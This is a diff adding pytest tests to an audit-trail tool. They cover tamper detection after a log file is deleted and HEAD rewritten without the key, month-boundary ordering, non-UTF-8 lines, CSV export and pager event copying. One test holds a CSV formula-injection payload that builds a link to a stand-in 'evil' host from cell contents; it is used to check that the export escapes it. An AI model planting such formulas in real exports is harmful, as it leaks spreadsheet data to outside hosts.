@@ -266,3 +266,83 @@ def test_insmon_run_records_each_config_load_with_its_digest_before_and_after(
     assert reloaded["before"] == first and reloaded["after"] not in (None, first)
     assert rejected["before"] == reloaded["after"] and rejected["after"] is None
     assert trail.verify() == []
+
+
+def test_a_removed_last_month_with_head_moved_back_is_found_with_a_key(
+        tmp_path: Path) -> None:
+    """Without the key nobody can seal HEAD again: the removed tail shows."""
+    trail = filled(tmp_path, key=b"the site's secret")
+    last_file = trail.files()[-1]
+    before = [r for r in trail.records() if r["at"] < last_file.name[6:13]]
+    last_file.unlink()
+    forger = Trail(tmp_path)  # no key
+    (tmp_path / "HEAD").write_text(
+        f"{before[-1]['seq']} {before[-1]['hash']} "
+        f"{forger._seal(before[-1]['seq'], before[-1]['hash'])}\n")
+    assert [f.what for f in trail.verify()] == [
+        "does not match its seal: it was changed (insmon audit --verify)".join(
+            (f"{tmp_path / 'HEAD'} ", ""))]
+
+
+def test_records_filed_across_a_month_boundary_out_of_order_verify(tmp_path: Path) -> None:
+    """The pager copies its store's older events after its start's own record: a record
+    can be a moment older than the one before it, and in the month before."""
+    trail = Trail(tmp_path)
+    for at in (datetime(2026, 11, 30, 23, 59, 58), datetime(2026, 12, 1, 0, 0, 0, 500000),
+               datetime(2026, 11, 30, 23, 59, 59, 900000)):
+        trail.append("config", "insmon", "ok", at=at.replace(tzinfo=SHANGHAI))
+    assert trail.verify() == []
+    assert [r["seq"] for r in trail.records()] == [1, 2, 3]
+
+
+def test_a_line_that_is_not_utf8_is_named_and_stops_nothing(tmp_path: Path) -> None:
+    trail = filled(tmp_path)
+    path = trail.files()[0]
+    with path.open("ab") as out:
+        out.write(b"\xff\xfe garbage\n")
+    lines = len(path.read_bytes().splitlines())
+    assert [str(f) for f in trail.verify()] == [
+        f"{path.name}:{lines}: not a record of the trail"]
+    trail.append("config", "insmon", "ok")  # the trail goes on
+    assert len(list(trail.records())) == 31
+    done = subprocess.run([INSMON, "audit", str(tmp_path), "--verify"], capture_output=True,
+                          text=True, timeout=60)
+    assert done.returncode == 1 and "not a record of the trail" in done.stdout
+    assert "Traceback" not in done.stderr
+
+
+def test_a_name_or_comment_that_looks_like_a_formula_stays_text_in_csv(
+        tmp_path: Path) -> None:
+    trail = Trail(tmp_path / "trail")
+    trail.append("maintenance-declared", '=HYPERLINK("http://evil/"&A1,"x")', "ok",
+                 "=1+2")
+    out = tmp_path / "audit.csv"
+    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--csv", str(out)],
+                          capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+    [row] = list(csv.reader(out.open(encoding="utf-8-sig")))[1:]
+    assert row[2] == '\'=HYPERLINK("http://evil/"&A1,"x")' and row[5] == "'=1+2"
+
+
+def test_the_pager_after_its_store_is_restored_copies_the_new_events(tmp_path: Path) -> None:
+    """A store restored from a backup reuses event ids: its new events are still copied,
+    and the trail says the store changed under it."""
+    from pager.audit import Auditor, refused
+    from pager.store import Store
+
+    trail = Trail(tmp_path / "audit")
+    store = Store(tmp_path / "pager.db")
+    for i in range(5):
+        refused(store, f"10.0.0.{i}", "wrong token", when=1_790_000_000.0 + i)
+    Auditor(store, trail).copy()
+    store.close()
+    (tmp_path / "pager.db").unlink()
+    restored = Store(tmp_path / "pager.db")  # an older copy: here, an empty one
+    for i in range(3):
+        refused(restored, f"10.0.1.{i}", "no token", when=1_790_000_100.0 + i)
+    Auditor(restored, trail).copy()
+    events = [r for r in trail.records()]
+    assert [r["event"] for r in events[-4:]] == ["pager-store-replaced"] + ["pager-refused"] * 3
+    assert [json.loads(r["detail"]["detail"])["client"] for r in events[-3:]] == [
+        "10.0.1.0", "10.0.1.1", "10.0.1.2"]
+    assert trail.verify() == []
